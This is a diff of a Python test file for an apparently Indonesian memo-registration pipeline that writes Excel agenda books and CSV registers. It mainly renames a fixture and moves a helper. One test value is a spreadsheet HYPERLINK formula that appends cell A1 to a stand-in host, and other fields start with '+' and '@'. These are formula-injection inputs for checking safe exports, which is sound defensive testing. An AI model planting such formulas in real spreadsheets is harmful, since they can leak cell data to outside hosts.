@@ -3,13 +3,13 @@ print-ready Excel, and kept current in archive/<year>/buku/ after every change."
 
 import csv
 import datetime as dt
-import json
 import time
 
 import openpyxl
 import pytest
-from builders import HEADER, MEMO_NOMOR, action, registration, registration_yaml, tab_memo
 from click.testing import CliRunner
+from support.builders import HEADER, MEMO_NOMOR, action, registration, registration_yaml, tab_memo
+from support.cli import jsonl
 
 from pipeline import engine
 from pipeline.cli import main
@@ -18,24 +18,20 @@ from pipeline.outputs import books, exports, yearly_books
 FORMULA_HAL = '=HYPERLINK("http://contoh.invalid/"&A1,"klik")'
 
 
-def jsonl(result):
-    return [json.loads(line) for line in result.output.splitlines() if line.strip()]
-
-
 @pytest.fixture
-def sent(ws, cli):
+def sent(config, cli):
     """One case taken through the whole SOP to a sent letter; its memo's Hal looks like a formula."""
-    tab_memo(ws.inbox / "nota.docx", {**HEADER, "Hal": FORMULA_HAL})
-    action(ws.inbox / "kapus.yaml", "disposisi_kapus")
-    action(ws.inbox / "kabid.yaml", "disposisi_kabid")
+    tab_memo(config.inbox / "nota.docx", {**HEADER, "Hal": FORMULA_HAL})
+    action(config.inbox / "kapus.yaml", "disposisi_kapus")
+    action(config.inbox / "kabid.yaml", "disposisi_kabid")
     registration_yaml(
-        ws.inbox / "registrasi.yaml",
+        config.inbox / "registrasi.yaml",
         registration(unit="+Badan Litbang", ppk=[{**registration()["ppk"][0], "jabatan": "@Kabag"}]),
     )
     assert cli("run").exit_code == 0
     for langkah in ("otentikasi", "periksa", "setujui", "kirim"):
         assert cli("act", MEMO_NOMOR, langkah).exit_code == 0, langkah
-    return ws
+    return config
 
 
 def sheet_values(sheet, row):
@@ -119,17 +115,17 @@ def test_the_sop_registers_as_csv_and_on_screen(sent, cli, tmp_path):
     assert missing.exit_code == 1 and "tidak dapat ditulis" in missing.output
 
 
-def test_the_books_in_the_archive_follow_every_change_and_verify_stays_clean(ws, cli):
-    tab_memo(ws.inbox / "nota.docx")
+def test_the_books_in_the_archive_follow_every_change_and_verify_stays_clean(config, cli):
+    tab_memo(config.inbox / "nota.docx")
     cli("run")
     year = dt.date.today().year
-    folder = ws.archive / str(year) / "buku"
+    folder = config.archive / str(year) / "buku"
     assert {p.name for p in folder.iterdir()} == yearly_books.file_names(year)
     sheet = openpyxl.load_workbook(folder / f"buku-agenda-{year}.xlsx")["Unit Pengguna"]
     assert sheet["J5"].value == "Menunggu data"
-    registration_yaml(ws.inbox / "registrasi.yaml")
-    action(ws.inbox / "kapus.yaml", "disposisi_kapus")
-    action(ws.inbox / "kabid.yaml", "disposisi_kabid")
+    registration_yaml(config.inbox / "registrasi.yaml")
+    action(config.inbox / "kapus.yaml", "disposisi_kapus")
+    action(config.inbox / "kabid.yaml", "disposisi_kabid")
     cli("run")
     sheet = openpyxl.load_workbook(folder / f"buku-agenda-{year}.xlsx")["Unit Pengguna"]
     assert (sheet["F5"].value, sheet["J5"].value) == (1, "Dalam proses")
@@ -144,11 +140,11 @@ def test_the_books_in_the_archive_follow_every_change_and_verify_stays_clean(ws,
     assert result.exit_code == 0 and "Arsip utuh" in result.output
 
 
-def test_the_books_are_not_written_again_while_the_register_has_not_changed(ws, cli):
+def test_the_books_are_not_written_again_while_the_register_has_not_changed(config, cli):
     """At 100,000 entries a year the books take a minute to write: an unchanged register is not."""
-    tab_memo(ws.inbox / "nota.docx")
+    tab_memo(config.inbox / "nota.docx")
     cli("run")
-    workbook = ws.archive / str(dt.date.today().year) / "buku" / f"buku-agenda-{dt.date.today().year}.xlsx"
+    workbook = config.archive / str(dt.date.today().year) / "buku" / f"buku-agenda-{dt.date.today().year}.xlsx"
     written = workbook.stat().st_mtime_ns
     for command in (("run",), ("status",), ("register",)):
         assert cli(*command).exit_code == 0
@@ -157,10 +153,10 @@ def test_the_books_are_not_written_again_while_the_register_has_not_changed(ws, 
     assert workbook.stat().st_mtime_ns != written
 
 
-def test_books_that_take_long_to_write_wait_twenty_times_as_long_between_writes(ws, cli):
-    tab_memo(ws.inbox / "nota.docx")
+def test_books_that_take_long_to_write_wait_twenty_times_as_long_between_writes(config, cli):
+    tab_memo(config.inbox / "nota.docx")
     cli("run")
-    folder = ws.archive / str(dt.date.today().year) / "buku"
+    folder = config.archive / str(dt.date.today().year) / "buku"
     workbook = folder / f"buku-agenda-{dt.date.today().year}.xlsx"
     head, seconds, _ = (folder / ".rantai").read_text().split()
     assert float(seconds) < 1.0
@@ -174,51 +170,51 @@ def test_books_that_take_long_to_write_wait_twenty_times_as_long_between_writes(
     assert int((folder / ".rantai").read_text().split()[0]) > int(head)
 
 
-def test_a_book_that_cannot_be_written_never_stops_the_pipeline(ws, cli):
+def test_a_book_that_cannot_be_written_never_stops_the_pipeline(config, cli):
     year = dt.date.today().year
-    (ws.archive / str(year)).mkdir(parents=True, exist_ok=True)
-    (ws.archive / str(year) / "buku").write_text("bukan folder")  # something in the way
-    tab_memo(ws.inbox / "nota.docx")
+    (config.archive / str(year)).mkdir(parents=True, exist_ok=True)
+    (config.archive / str(year) / "buku").write_text("bukan folder")  # something in the way
+    tab_memo(config.inbox / "nota.docx")
     result = cli("run")
     assert result.exit_code == 0 and "1 diterima." in result.output
     assert "Buku agenda di arsip belum dapat diperbarui" in result.output
-    (ws.archive / str(year) / "buku").unlink()
-    action(ws.inbox / "kapus.yaml", "disposisi_kapus")
+    (config.archive / str(year) / "buku").unlink()
+    action(config.inbox / "kapus.yaml", "disposisi_kapus")
     cli("run")
-    assert (ws.archive / str(year) / "buku" / f"buku-agenda-{year}.xlsx").is_file()
+    assert (config.archive / str(year) / "buku" / f"buku-agenda-{year}.xlsx").is_file()
 
 
-def test_a_year_boundary_starts_new_numbers_and_new_books(ws, tmp_path):
+def test_a_year_boundary_starts_new_numbers_and_new_books(config, tmp_path):
     """A memo received on 31 December is answered in January: the letter takes the new year's
     first number, the new year's first memo its first agenda number, each year has its books."""
-    jakarta = ws.timezone
+    jakarta = config.timezone
     clock = {"now": dt.datetime(2026, 12, 31, 16, 30, tzinfo=jakarta)}
 
     def session(work):
-        with engine.open_workspace(ws, clock=lambda: clock["now"]) as opened:
+        with engine.open_workspace(config, clock=lambda: clock["now"]) as opened:
             opened.start()
             return work(opened)
 
-    tab_memo(ws.inbox / "nota.docx")
+    tab_memo(config.inbox / "nota.docx")
     for name, langkah in (("kapus.yaml", "disposisi_kapus"), ("kabid.yaml", "disposisi_kabid")):
-        action(ws.inbox / name, langkah)
-    registration_yaml(ws.inbox / "registrasi.yaml")
+        action(config.inbox / name, langkah)
+    registration_yaml(config.inbox / "registrasi.yaml")
     session(lambda w: w.process_inbox())
     session(lambda w: [w.act(MEMO_NOMOR, langkah) for langkah in ("otentikasi", "periksa")])
     clock["now"] = dt.datetime(2027, 1, 4, 8, 15, tzinfo=jakarta)
     session(lambda w: w.act(MEMO_NOMOR, "setujui"))
-    tab_memo(ws.inbox / "baru.docx", {**HEADER, "Nomor": "027/1/ULP-X/I/2027"})
+    tab_memo(config.inbox / "baru.docx", {**HEADER, "Nomor": "027/1/ULP-X/I/2027"})
     session(lambda w: w.process_inbox())
 
     runner = CliRunner()
-    entries = jsonl(runner.invoke(main, ["--config", str(ws.path), "register", "--json"]))
+    entries = jsonl(runner.invoke(main, ["--config", str(config.path), "register", "--json"]))
     masuk = [(e["tahun"], e["nomor_urut"], e["nomor_agenda"]) for e in entries if e["buku"] == "masuk"]
     keluar = [(e["tahun"], e["nomor_urut"], e["nomor_surat"], e["kasus"]) for e in entries if e["buku"] == "keluar"]
     assert masuk == [(2026, 1, "0001/SM/2026"), (2027, 1, "0001/SM/2027")]
     assert keluar == [(2027, 1, "000.4.5/1/Pusdatinkomtel/2027", "2026-0001")]
 
-    old = openpyxl.load_workbook(ws.archive / "2026" / "buku" / "buku-agenda-2026.xlsx")
-    new = openpyxl.load_workbook(ws.archive / "2027" / "buku" / "buku-agenda-2027.xlsx")
+    old = openpyxl.load_workbook(config.archive / "2026" / "buku" / "buku-agenda-2026.xlsx")
+    new = openpyxl.load_workbook(config.archive / "2027" / "buku" / "buku-agenda-2027.xlsx")
     assert old["Agenda Masuk"].max_row == 5 and old["Agenda Keluar"].max_row == exports.HEADER_ROW
     assert new["Agenda Masuk"]["C5"].value == "0001/SM/2027" and new["Agenda Keluar"]["B5"].value.endswith("/2027")
     # the registers of the new year's books hold every case, the old year's memo too
@@ -227,7 +223,7 @@ def test_a_year_boundary_starts_new_numbers_and_new_books(ws, tmp_path):
         main,
         [
             "--config",
-            str(ws.path),
+            str(config.path),
             "register",
             "--tahun",
             "2026",
